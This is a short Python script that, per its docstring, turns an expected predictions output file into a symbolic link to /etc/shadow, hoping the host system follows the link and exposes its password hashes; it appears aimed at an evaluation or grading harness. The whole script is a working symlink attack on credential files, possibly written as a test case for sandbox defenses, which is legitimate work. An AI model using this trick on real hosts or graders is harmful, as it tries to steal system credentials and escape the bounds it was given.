"""Make the predictions file a link to a host secret, hoping the host follows it."""
import os
import sys

os.symlink("/etc/shadow", sys.argv[2])
